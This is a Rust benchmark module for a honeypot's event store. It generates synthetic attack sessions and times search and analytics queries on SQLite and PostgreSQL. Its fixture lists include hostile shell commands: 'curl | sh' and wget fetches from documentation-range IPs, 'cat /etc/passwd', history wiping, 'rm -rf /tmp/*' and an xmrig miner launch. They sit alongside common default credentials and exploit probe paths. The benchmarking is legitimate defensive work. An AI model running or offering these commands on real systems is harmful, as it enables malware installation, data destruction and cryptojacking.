//! Event search and analytics over a large store, on SQLite and on PostgreSQL: both
//! backends are filled with the same generated events through `Store::insert_events`, then
//! the searches and aggregates the dashboard and the CLI send (`Store::search_events`,
//! `count_matching`, `query_events`, `get_event`, `stats`, `top_commands`) are timed on
//! each, and their answers compared.

use crate::pg::Pg;
use crate::stats::median;
use anyhow::{Context, Result, bail};
use honeybee_core::store::{PgStore, SqliteStore, Store};
use honeybee_proto::admin::{EventQuery, EventSearch, StatsQuery};
use honeybee_proto::event::{AuthAttempt, AuthMethod, Event, EventKind, HttpRequest};
use honeybee_proto::{NodeId, SessionId};
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

const MINUTE: i64 = 60_000;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

#[derive(Debug, Clone, Copy)]
pub struct SearchSizes {
    pub events: u64,
    pub nodes: usize,
    /// The events are spread evenly over this many days before "now".
    pub days: i64,
    /// Events per `insert_events` call (one node's consecutive events).
    pub batch: usize,
    /// Concurrent inserting tasks.
    pub producers: usize,
    pub runs: usize,
    /// Bound of one fill, and of one query.
    pub fill_limit: Duration,
    pub query_limit: Duration,
}

impl SearchSizes {
    fn per_node(&self) -> u64 {
        self.events / self.nodes as u64
    }
}

fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

const USERS: [&str; 16] = [
    "root", "admin", "ubuntu", "test", "oracle", "pi", "user", "postgres", "git", "ftpuser",
    "support", "guest", "deploy", "hadoop", "nagios", "ansible",
];
const PASSWORDS: [&str; 16] = [
    "123456",
    "password",
    "admin",
    "root",
    "qwerty",
    "12345678",
    "raspberry",
    "P@ssw0rd",
    "1234",
    "toor",
    "changeme",
    "letmein",
    "welcome1",
    "abc123",
    "passw0rd",
    "default",
];
const COMMANDS: [&str; 24] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "ls -la",
    "w",
    "whoami",
    "cat /etc/passwd",
    "crontab -l",
    "ps aux",
    "nproc",
    "uname -m",
    "cd /tmp",
    "wget http://203.0.113.50/bins.sh",
    "curl -s http://198.51.100.7/x | sh",
    "chmod +x bins.sh",
    "./bins.sh",
    "echo -e \"\\x61\\x75\\x74\\x68\"",
    "cat /proc/mounts",
    "lscpu",
    "top -bn1",
    "history -c",
    "rm -rf /tmp/*",
    "passwd",
    "exit",
];
/// A rare command (one session in 5,000): a search that must look through much of the
/// store to fill a page.
const RARE: &str = "cd /tmp; ./xmrig --donate-level 1 -o pool.example:3333";
const PATHS: [&str; 8] = [
    "/",
    "/wp-login.php",
    "/.env",
    "/cgi-bin/luci",
    "/admin/config.php",
    "/shell?cd+/tmp",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

pub fn node_name(k: usize) -> String {
    format!("sensor-{k:03}")
}

/// The `j`-th event of node `k`: sessions of eight events (connect, attempts, commands or
/// requests, disconnect) from a skewed population of about 100,000 source addresses.
pub fn event(sz: &SearchSizes, start_ms: i64, k: usize, j: u64) -> Event {
    let total = sz.per_node() * sz.nodes as u64;
    let g = j * sz.nodes as u64 + k as u64;
    let span = sz.days * DAY;
    let time_ms = start_ms + ((g as i128 * span as i128) / total.max(1) as i128) as i64;
    let sess = j / 8;
    let pos = j % 8;
    let h = splitmix(((k as u64) << 40) ^ sess);
    let service = match h % 100 {
        0..45 => "ssh",
        45..65 => "telnet",
        65..90 => "http",
        90..95 => "ftp",
        _ => "redis",
    };
    // Skewed: a few addresses make most of the sessions, as on a real sensor.
    let r = (splitmix(h) >> 11) as f64 / (1u64 << 53) as f64;
    let idx = (100_000.0 * r * r * r) as u32;
    let ip = [45, 10 + (idx >> 16) as u8, (idx >> 8) as u8, idx as u8];
    let src = SocketAddr::from((ip, 30_000 + (h >> 20) as u16 % 30_000));
    let port = match service {
        "ssh" => 22,
        "telnet" => 23,
        "http" => 80,
        "ftp" => 21,
        _ => 6379,
    };
    let hj = splitmix(h ^ pos);
    let kind = match (service, pos) {
        (_, 0) => EventKind::Connect,
        (_, 7) => EventKind::Disconnect {
            duration_ms: hj % 60_000,
            bytes_in: hj % 4096,
            bytes_out: hj % 8192,
        },
        ("http", _) => EventKind::HttpRequest(HttpRequest {
            method: if hj.is_multiple_of(5) { "POST" } else { "GET" }.into(),
            path: PATHS[(hj % 8) as usize].into(),
            query: None,
            version: "HTTP/1.1".into(),
            headers: vec![("Host".into(), "10.0.0.1".into())],
            user_agent: Some("Mozilla/5.0 zgrab/0.x".into()),
            body: vec![],
            body_truncated: false,
            status: 404,
        }),
        (_, 1..=3) => EventKind::AuthAttempt(AuthAttempt {
            method: AuthMethod::Password,
            username: USERS[(hj % 16 * (hj >> 8) % 16 / 16 + hj % 3) as usize % 16].into(),
            password: Some(PASSWORDS[((hj >> 16) % 16 * ((hj >> 24) % 16) / 16) as usize].into()),
            key_fingerprint: None,
            key_algorithm: None,
            client_version: (service == "ssh").then(|| "SSH-2.0-Go".into()),
            success: pos == 3 && hj.is_multiple_of(4),
        }),
        _ => EventKind::Command {
            line: if sess.is_multiple_of(5000) && k.is_multiple_of(2) {
                RARE.into()
            } else {
                COMMANDS[((hj >> 8) % 24) as usize].into()
            },
        },
    };
    Event {
        seq: j + 1,
        time_ms,
        service: service.into(),
        session: Some(SessionId(h.to_be_bytes())),
        src: Some(src),
        dst: Some(SocketAddr::from(([10, 0, 0, 1], port))),
        kind,
    }
}

/// Fills `store` with every generated event: `producers` tasks, each taking its share of
/// the nodes round by round (so time advances across the whole store as it would live).
async fn fill(store: &Store, sz: &SearchSizes, start_ms: i64) -> Result<Duration> {
    let t = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    for p in 0..sz.producers {
        let (store, sz) = (store.clone(), *sz);
        tasks.spawn(async move {
            let nodes: Vec<(usize, NodeId)> = (p..sz.nodes)
                .step_by(sz.producers)
                .map(|k| {
                    Ok((
                        k,
                        NodeId::new(node_name(k)).map_err(|e| anyhow::anyhow!("{e}"))?,
                    ))
                })
                .collect::<Result<_>>()?;
            let mut n = 0u64;
            let mut j = 0u64;
            // Bounded: per_node / batch rounds.
            while j < sz.per_node() {
                let end = (j + sz.batch as u64).min(sz.per_node());
                for (k, node) in &nodes {
                    let events: Vec<Event> =
                        (j..end).map(|i| event(&sz, start_ms, *k, i)).collect();
                    let received = events.last().map_or(0, |e| e.time_ms + 50);
                    n += store.insert_events(node, received, events).await?.inserted;
                }
                j = end;
            }
            anyhow::Ok(n)
        });
    }
    let mut n = 0;
    while let Some(r) = tasks.join_next().await {
        n += r.context("fill task")??;
    }
    let want = sz.per_node() * sz.nodes as u64;
    if n != want {
        bail!("filled {n} events, expected {want}");
    }
    Ok(t.elapsed())
}

/// What a query answered, reduced to something comparable across backends.
#[derive(Debug, Clone, PartialEq)]
enum Answer {
    Events(Vec<(String, u64)>),
    Count(u64, bool),
    Stats(Box<honeybee_proto::admin::Stats>),
    Keys(Vec<(String, u64)>),
}

impl Answer {
    fn summary(&self) -> String {
        match self {
            Answer::Events(v) => format!("{} events", v.len()),
            Answer::Count(n, capped) => {
                format!("{n}{}", if *capped { " (capped)" } else { "" })
            }
            Answer::Stats(s) => format!("{} events, {} buckets", s.events_total, s.total.len()),
            Answer::Keys(v) => format!("{} keys", v.len()),
        }
    }
}

fn events(v: Vec<honeybee_proto::admin::StoredEvent>) -> Answer {
    Answer::Events(
        v.into_iter()
            .map(|e| (e.node.as_str().to_owned(), e.event.seq))
            .collect(),
    )
}

#[derive(Clone)]
enum Q {
    Search(EventSearch),
    Count(EventSearch),
    /// `pages` pages walked by cursor (the dashboard's "older" button, the CLI's paging).
    Pages(EventSearch, usize),
    List(EventQuery),
    Get(NodeId, u64),
    Stats(StatsQuery),
    TopCommands(i64, i64, Vec<String>, u32),
}

async fn run_query(store: &Store, q: &Q) -> Result<Answer> {
    Ok(match q {
        Q::Search(s) => events(store.search_events(s).await?),
        Q::Count(s) => {
            let (n, c) = store.count_matching(s).await?;
            Answer::Count(n, c)
        }
        Q::Pages(s, pages) => {
            let mut s = s.clone();
            let mut all = Vec::new();
            for _ in 0..*pages {
                let page = store.search_events(&s).await?;
                let Some(last) = page.last() else { break };
                s.before = Some(Store::cursor_after(last));
                all.extend(page);
            }
            events(all)
        }
        Q::List(l) => events(store.query_events(l).await?),
        Q::Get(n, seq) => events(store.get_event(n, *seq).await?.into_iter().collect()),
        Q::Stats(s) => Answer::Stats(Box::new(store.stats(s).await?)),
        Q::TopCommands(since, until, services, top) => Answer::Keys(
            store
                .top_commands(*since, *until, services, *top)
                .await?
                .into_iter()
                .map(|k| (k.key, k.count))
                .collect(),
        ),
    })
}

/// The queries, as the dashboard and the CLI send them (`now` = the end of the data).
fn queries(sz: &SearchSizes, start_ms: i64, now: i64) -> Result<Vec<(String, Q)>> {
    let node = NodeId::new(node_name(7)).map_err(|e| anyhow::anyhow!("{e}"))?;
    let page = |f: EventSearch| EventSearch { limit: 100, ..f };
    let top_ip = "45.10.0.0".to_string();
    let mid = sz.per_node() / 2;
    let session = event(sz, start_ms, 7, mid).session;
    let day_end = (now / MINUTE + 1) * MINUTE;
    let mut v: Vec<(String, Q)> = vec![
        (
            "Events page, no filter: first page of 100 (`search_events`)".into(),
            Q::Search(page(EventSearch::default())),
        ),
        (
            "↳ its total (`count_matching`, counts up to 1,000,000)".into(),
            Q::Count(EventSearch::default()),
        ),
        (
            "Events page, no filter: 10 pages of 100 by cursor".into(),
            Q::Pages(page(EventSearch::default()), 10),
        ),
        (
            "service = ssh, kind = auth_attempt: first page".into(),
            Q::Search(page(EventSearch {
                service: Some("ssh".into()),
                kind: Some("auth_attempt".into()),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                service: Some("ssh".into()),
                kind: Some("auth_attempt".into()),
                ..Default::default()
            }),
        ),
        (
            format!("node = {}, last 24 h: first page", node.as_str()),
            Q::Search(page(EventSearch {
                node: Some(node.clone()),
                since_ms: Some(now - DAY),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                node: Some(node.clone()),
                since_ms: Some(now - DAY),
                ..Default::default()
            }),
        ),
        (
            format!("src = {top_ip} (the busiest source): first page"),
            Q::Search(page(EventSearch {
                src: Some(top_ip.clone()),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                src: Some(top_ip.clone()),
                ..Default::default()
            }),
        ),
        (
            "src prefix `45.10.3.`: first page".into(),
            Q::Search(page(EventSearch {
                src: Some("45.10.3.".into()),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                src: Some("45.10.3.".into()),
                ..Default::default()
            }),
        ),
        (
            "free text `wget` (in ~1 % of events): first page".into(),
            Q::Search(page(EventSearch {
                text: Some("wget".into()),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                text: Some("wget".into()),
                ..Default::default()
            }),
        ),
        (
            "free text `xmrig` (rare): first page".into(),
            Q::Search(page(EventSearch {
                text: Some("xmrig".into()),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                text: Some("xmrig".into()),
                ..Default::default()
            }),
        ),
        (
            "free text `wget`, last 24 h: first page".into(),
            Q::Search(page(EventSearch {
                text: Some("wget".into()),
                since_ms: Some(now - DAY),
                ..Default::default()
            })),
        ),
        (
            "↳ its total".into(),
            Q::Count(EventSearch {
                text: Some("wget".into()),
                since_ms: Some(now - DAY),
                ..Default::default()
            }),
        ),
        (
            "one session's events (Session view, `session = …`)".into(),
            Q::Search(EventSearch {
                session,
                limit: 500,
                ..Default::default()
            }),
        ),
        (
            "one event (`get_event`)".into(),
            Q::Get(node.clone(), mid + 1),
        ),
        (
            format!(
                "CLI `honeybee events --node {} --kind command` (50, `query_events`)",
                node.as_str()
            ),
            Q::List(EventQuery {
                node: Some(node.clone()),
                kind: Some("command".into()),
                limit: 50,
                ..Default::default()
            }),
        ),
        (
            "Overview: last 60 min per minute (`stats`, top 0)".into(),
            Q::Stats(StatsQuery {
                since_ms: day_end - 60 * MINUTE,
                until_ms: day_end,
                bucket_ms: MINUTE,
                top: 0,
            }),
        ),
        (
            "Overview: last 24 h, one bucket, top 10 (`stats`)".into(),
            Q::Stats(StatsQuery {
                since_ms: now - DAY,
                until_ms: now + 1,
                bucket_ms: DAY,
                top: 10,
            }),
        ),
        (
            "Analytics: last 24 h, 15-min buckets, top 20 (`stats`)".into(),
            Q::Stats(StatsQuery {
                since_ms: now - DAY,
                until_ms: now,
                bucket_ms: DAY / 96,
                top: 20,
            }),
        ),
        (
            format!(
                "Analytics: all {} days, {}-min buckets, top 20 (`stats`)",
                sz.days,
                sz.days * DAY / 96 / MINUTE
            ),
            Q::Stats(StatsQuery {
                since_ms: now - sz.days * DAY,
                until_ms: now + 1,
                bucket_ms: sz.days * DAY / 96,
                top: 20,
            }),
        ),
        (
            "top commands of ssh + telnet, last 24 h, top 20 (`top_commands`)".into(),
            Q::TopCommands(now - DAY, now, vec!["ssh".into(), "telnet".into()], 20),
        ),
        (
            format!("top commands of ssh + telnet, all {} days, top 20", sz.days),
            Q::TopCommands(
                now - sz.days * DAY,
                now + 1,
                vec!["ssh".into(), "telnet".into()],
                20,
            ),
        ),
    ];
    v.shrink_to_fit();
    Ok(v)
}

/// One query's timings (ms) on each backend.
struct Row {
    what: String,
    sqlite: Vec<f64>,
    pg: Vec<f64>,
    answer: String,
    same: bool,
}

async fn time(store: &Store, q: &Q, limit: Duration) -> Result<(f64, Answer)> {
    let t = Instant::now();
    let a = tokio::time::timeout(limit, run_query(store, q))
        .await
        .context("query timed out")??;
    Ok((t.elapsed().as_secs_f64() * 1e3, a))
}

fn load() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .ok()
        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_default()
}

fn ms(v: f64) -> String {
    if v >= 100.0 {
        format!("{v:.0}")
    } else if v >= 10.0 {
        format!("{v:.1}")
    } else {
        format!("{v:.2}")
    }
}

/// A ratio with two significant digits at least (3.4, 0.85, 0.0012).
fn ratio(r: f64) -> String {
    if r >= 0.1 {
        format!("{r:.2}")
    } else {
        format!("{:.1$}", r, (-r.log10()).ceil() as usize + 1)
    }
}

/// Times every query `sz.runs` times on each backend (backends alternating per query);
/// returns the rows and the SQLite answer of each query (the last run's).
async fn pass(
    sqlite: &Store,
    pgs: &Store,
    qs: &[(String, Q)],
    sz: &SearchSizes,
    tag: &str,
) -> Result<(Vec<Row>, Vec<Option<Answer>>)> {
    let mut rows = Vec::new();
    let mut answers = Vec::new();
    for (what, q) in qs {
        let mut last = None;
        let mut row = Row {
            what: what.clone(),
            sqlite: vec![],
            pg: vec![],
            answer: String::new(),
            same: true,
        };
        for _ in 0..sz.runs {
            let (a, ans_s) = time(sqlite, q, sz.query_limit)
                .await
                .with_context(|| format!("SQLite: {}", row.what))?;
            let (b, ans_p) = time(pgs, q, sz.query_limit)
                .await
                .with_context(|| format!("PostgreSQL: {}", row.what))?;
            row.sqlite.push(a);
            row.pg.push(b);
            row.same &= ans_s == ans_p;
            last = Some(ans_s.clone());
            row.answer = ans_s.summary();
            if ans_s != ans_p {
                row.answer = format!(
                    "SQLite {} / PostgreSQL {}",
                    ans_s.summary(),
                    ans_p.summary()
                );
            }
        }
        eprintln!(
            "[bench] search{tag}: {}: SQLite {} ms, PostgreSQL {} ms ({}{})",
            row.what,
            ms(median(&row.sqlite)),
            ms(median(&row.pg)),
            row.answer,
            if row.same { "" } else { ", ANSWERS DIFFER" }
        );
        answers.push(last);
        rows.push(row);
    }
    Ok((rows, answers))
}

/// Fills a SQLite and a PostgreSQL store with `sz.events` events each, then times every
/// query `sz.runs` times on each (backends interleaved per query), first as the store
/// answers now, then as it answered before the count tables and the trigram indexes.
/// Returns Markdown.
pub async fn figure(sz: &SearchSizes, pg: &mut Pg) -> Result<String> {
    let dir = tempfile::Builder::new()
        .prefix("honeybee-bench-search-")
        .tempdir()?;
    let now = honeybee_core::now_ms();
    let start_ms = now - sz.days * DAY;
    let total = sz.per_node() * sz.nodes as u64;

    let sqlite = Store::from(SqliteStore::open(&dir.path().join("honeybee.db"))?);
    eprintln!(
        "[bench] search: filling SQLite with {total} events (load {})",
        load()
    );
    let fill_sqlite = tokio::time::timeout(sz.fill_limit, fill(&sqlite, sz, start_ms))
        .await
        .context("SQLite fill timed out")??;
    eprintln!(
        "[bench] search: SQLite filled in {:.1} s (load {})",
        fill_sqlite.as_secs_f64(),
        load()
    );

    let url = pg.fresh_database("search").await?;
    let pgs = Store::from(PgStore::open(&url, Some(crate::pg::PASSWORD)).await?);
    eprintln!("[bench] search: filling PostgreSQL with {total} events");
    let fill_pg = tokio::time::timeout(sz.fill_limit, fill(&pgs, sz, start_ms))
        .await
        .context("PostgreSQL fill timed out")??;
    eprintln!(
        "[bench] search: PostgreSQL filled in {:.1} s (load {})",
        fill_pg.as_secs_f64(),
        load()
    );
    // What autovacuum does to an insert-only table soon after a bulk load (statistics,
    // visibility map); done here so the plans do not depend on when it happens to run.
    let t = Instant::now();
    crate::pg::connect(&url)
        .await?
        .batch_execute("VACUUM (ANALYZE) events")
        .await?;
    let vacuum = t.elapsed();
    let sizes_db = {
        let c = crate::pg::connect(&url).await?;
        let r = c
            .query_one(
                "SELECT pg_total_relation_size('events'), pg_relation_size('events')",
                &[],
            )
            .await?;
        (r.get::<_, i64>(0), r.get::<_, i64>(1))
    };
    let sqlite_bytes = ["honeybee.db", "honeybee.db-wal"]
        .iter()
        .filter_map(|f| std::fs::metadata(dir.path().join(f)).ok())
        .map(|m| m.len())
        .sum::<u64>();

    let qs = queries(sz, start_ms, now)?;
    let load_before = load();
    let (rows, answers) = pass(&sqlite, &pgs, &qs, sz, "").await?;
    // The same stores answering as before schema v6 (SQLite) / v6 and the trigram
    // indexes (PostgreSQL): counts off, trigram indexes dropped; same data, same process.
    honeybee_core::store::set_event_counts(false);
    crate::pg::connect(&url)
        .await?
        .batch_execute("DROP INDEX IF EXISTS events_search_trgm, events_node_trgm")
        .await?;
    let (old_rows, old_answers) = pass(&sqlite, &pgs, &qs, sz, " (as before)").await?;
    honeybee_core::store::set_event_counts(true);
    let load_after = load();
    sqlite.close().await?;
    pgs.close().await?;

    let mut s = String::new();
    let _ = writeln!(
        s,
        "### Event search and analytics over {total} stored events: before and after the count tables and trigram indexes\n"
    );
    let _ = writeln!(
        s,
        "| query | SQLite before (ms) | SQLite after (ms) | PostgreSQL before (ms) | PostgreSQL after (ms) | same answers (4 ways) |"
    );
    let _ = writeln!(s, "|---|---:|---:|---:|---:|---|");
    for (i, (new, old)) in rows.iter().zip(&old_rows).enumerate() {
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} | {} | {} |",
            new.what,
            ms(median(&old.sqlite)),
            ms(median(&new.sqlite)),
            ms(median(&old.pg)),
            ms(median(&new.pg)),
            if new.same && old.same && answers[i] == old_answers[i] {
                "yes"
            } else {
                "**no**"
            }
        );
    }
    let _ = writeln!(s, "\nAfter, in full:\n");
    let _ = writeln!(
        s,
        "| query | answer | SQLite median (ms) | PostgreSQL median (ms) | PostgreSQL / SQLite | same answer | runs: SQLite | runs: PostgreSQL |"
    );
    let _ = writeln!(s, "|---|---|---:|---:|---:|---|---|---|");
    let runs = |v: &[f64]| v.iter().map(|x| ms(*x)).collect::<Vec<_>>().join(" / ");
    for r in &rows {
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} | {}× | {} | {} | {} |",
            r.what,
            r.answer,
            ms(median(&r.sqlite)),
            ms(median(&r.pg)),
            ratio(median(&r.pg) / median(&r.sqlite)),
            if r.same { "yes" } else { "**no**" },
            runs(&r.sqlite),
            runs(&r.pg)
        );
    }
    let _ = writeln!(
        s,
        "\n- {total} events from {} nodes over {} days (sessions of 8: connect, 3 logins or requests, commands, disconnect; ssh 45 %, telnet 20 %, http 25 %, ftp 5 %, redis 5 %; ~100,000 source addresses, skewed), filled through `Store::insert_events` ({} tasks, {} events per call): SQLite {:.1} s ({:.0} events/s), PostgreSQL {:.1} s ({:.0} events/s), then `VACUUM (ANALYZE) events` on PostgreSQL {:.1} s.",
        sz.nodes,
        sz.days,
        sz.producers,
        sz.batch,
        fill_sqlite.as_secs_f64(),
        total as f64 / fill_sqlite.as_secs_f64(),
        fill_pg.as_secs_f64(),
        total as f64 / fill_pg.as_secs_f64(),
        vacuum.as_secs_f64()
    );
    let _ = writeln!(
        s,
        "- On disk: SQLite file {:.0} MiB; PostgreSQL `events` {:.0} MiB with its indexes ({:.0} MiB heap).",
        sqlite_bytes as f64 / 1048576.0,
        sizes_db.0 as f64 / 1048576.0,
        sizes_db.1 as f64 / 1048576.0
    );
    let _ = writeln!(
        s,
        "- Each query timed {} times per backend through the `Store` API in this process (backends alternating), median reported; load average before the queries {load_before}, after {load_after}.",
        sz.runs
    );
    Ok(s)
}
